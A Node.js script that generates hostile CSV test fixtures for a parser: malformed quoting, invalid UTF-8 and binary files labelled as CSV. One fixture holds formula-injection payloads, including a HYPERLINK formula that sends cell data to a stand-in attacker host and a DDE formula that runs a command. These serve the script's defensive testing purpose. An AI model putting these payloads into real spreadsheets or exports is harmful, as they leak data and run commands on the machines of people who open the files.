#!/usr/bin/env node
// Generates fixtures/input/hostile/: small hostile input files, byte-exact and deterministic.
// The large ones (a million blank lines, a 100 MB line, a FIFO, zip bombs…) are made at test
// time in a temp dir by test/hostile.generate.ts, so the repository stays small.
// Expected outcomes live in fixtures/input/hostile/manifest.json.
// Run: node scripts/make-hostile-inputs.js
import { mkdirSync, writeFileSync } from 'node:fs';

const out = new URL('../fixtures/input/hostile/', import.meta.url);
mkdirSync(out, { recursive: true });

const HEADER = 'name,email,country,address,currency,application_date';
const ROW = (n) => `Client ${n},client${n}@example.com,DE,Street ${n},EUR,2024-05-17`;
const lines = (...rows) => `${rows.join('\n')}\n`;
const latin = (text) => Buffer.from(text, 'latin1');
const bytes = (...parts) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part))));

const files = {
  // Malformed CSV shapes
  'empty.csv': '',
  'bom-only.csv': '\ufeff',
  'newlines-only.csv': '\n\r\n\n\r\n',
  'header-only.csv': lines(HEADER),
  'delimiters-only-header.csv': lines(',,,,,', ROW(1)),
  'empty-header-names.csv': lines('name,,email,,country,address', 'a,b,c@example.com,d,DE,x'),
  'duplicate-required-header.csv': lines('name,email,email,country,address', 'A,a@example.com,b@example.com,DE,x'),
  'missing-columns.csv': lines('name,email', 'A,a@example.com'),
  'unbalanced-quote.csv': lines(HEADER, ROW(1), `"Client 2,client2@example.com,DE,Street,EUR,2024-05-17`, ROW(3)),
  'quote-in-unquoted-field.csv': lines(HEADER, ROW(1), 'Client 5" wide,c5@example.com,DE,x,EUR,2024-05-17'),
  'text-after-closing-quote.csv': lines(HEADER, '"Client 1"x,c1@example.com,DE,x,EUR,2024-05-17'),
  'quoted-header-with-newline.csv': lines('"na\nme",email,country,address', 'A,a@example.com,DE,x'),
  'ragged-rows.csv': lines(HEADER, ROW(1), 'Client 2,c2@example.com', `${ROW(3)},extra,more`, ROW(4)),
  'cr-only-line-ends.csv': [HEADER, ROW(1), ROW(2)].join('\r') + '\r',
  'mixed-line-ends.csv': `${HEADER}\r\n${ROW(1)}\n${ROW(2)}\r${ROW(3)}\r\n`,
  'trailing-delimiters.csv': lines(`${HEADER},,,`, `${ROW(1)},,,`),
  'whitespace-rows.csv': lines(HEADER, '   ,  ,\t, , ,', ROW(1), '      '),
  'nested-quotes.csv': lines(HEADER, `"${'"'.repeat(2000)}",c@example.com,DE,x,EUR,2024-05-17`, ROW(2)),
  'quote-storm.csv': `${HEADER}\n${'"'.repeat(4097)}\n`,
  'nul-in-quoted-field.csv': lines(HEADER, `"Client\u0000 1",c1@example.com,DE,x,EUR,2024-05-17`),
  'control-characters.csv': lines(HEADER, `Client\u0007\u001b[31m 1,c1@example.com,DE,"x\u000b\u000c",EUR,2024-05-17`),
  'wide-row.csv': lines(HEADER, `${ROW(1)}${',x'.repeat(20_000)}`),
  'binary-png.csv': bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52], Buffer.alloc(512, 7)),
  'zip-named-csv.csv': bytes([0x50, 0x4b, 0x03, 0x04], Buffer.alloc(200, 1)),
  // Invalid UTF-8 at every position class
  'utf8-invalid-first-byte.csv': bytes([0xff], `${HEADER}\n${ROW(1)}\n`),
  'utf8-invalid-in-header.csv': bytes('name,em', [0xc3], 'ail,country,address,currency,application_date\n', `${ROW(1)}\n`),
  'utf8-invalid-mid-field.csv': bytes(`${HEADER}\nClient `, [0xe2, 0x28, 0xa1], ` 1,c1@example.com,DE,x,EUR,2024-05-17\n${ROW(2)}\n`),
  'utf8-invalid-in-quoted-field.csv': bytes(`${HEADER}\n"Client `, [0x80], ` 1",c1@example.com,DE,x,EUR,2024-05-17\n`),
  'utf8-overlong.csv': bytes(`${HEADER}\nClient `, [0xc0, 0xaf], ` 1,c1@example.com,DE,x,EUR,2024-05-17\n`),
  'utf8-surrogate.csv': bytes(`${HEADER}\nClient `, [0xed, 0xa0, 0x80], ` 1,c1@example.com,DE,x,EUR,2024-05-17\n`),
  'utf8-truncated-at-end.csv': bytes(`${HEADER}\n${ROW(1)}\nClient 2,c2@example.com,DE,x,EUR,2024-05-17 `, [0xf0, 0x9f, 0x98]),
  'utf8-invalid-after-valid-multibyte.csv': bytes(`${HEADER}\nZoë `, [0xa9, 0xa9], `,z@example.com,FR,x,EUR,2024-05-17\n`),
  // UTF-16 without a BOM
  'utf16le-no-bom.csv': Buffer.from(lines(HEADER, ROW(1)), 'utf16le'),
  'utf16be-no-bom.csv': Buffer.from(lines(HEADER, ROW(1)), 'utf16le').swap16(),
  // CSV injection in every column: the values are sent as they are, and every output file escapes them
  'csv-injection.csv': lines(
    HEADER,
    `"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",a@example.com,DE,"=cmd|' /C calc'!A0",EUR,2024-05-17`,
    `+SUM(1+1),b@example.com,DE,@SUM(A1),EUR,2024-05-17`,
    `-2+3,c@example.com,DE,"\tTAB",EUR,2024-05-17`,
    `@lookup,d@example.com,=1+1,x,EUR,2024-05-17`,
    `'=already escaped,e@example.com,DE,x,=EUR,2024-05-17`,
    `Plain,=f@example.com,DE,x,EUR,=2024-05-17`,
  ),
  'formula-headers.csv': lines('=name,@email,+country,-address', 'A,a@example.com,DE,x'),
  'latin1-mislabelled.csv': latin(lines(HEADER, 'Zoë Müller,z@example.com,DE,Straße 1,EUR,2024-05-17')),
};

for (const [name, data] of Object.entries(files)) writeFileSync(new URL(name, out), data);
console.log(`wrote ${Object.keys(files).length} files to ${out.pathname}`);
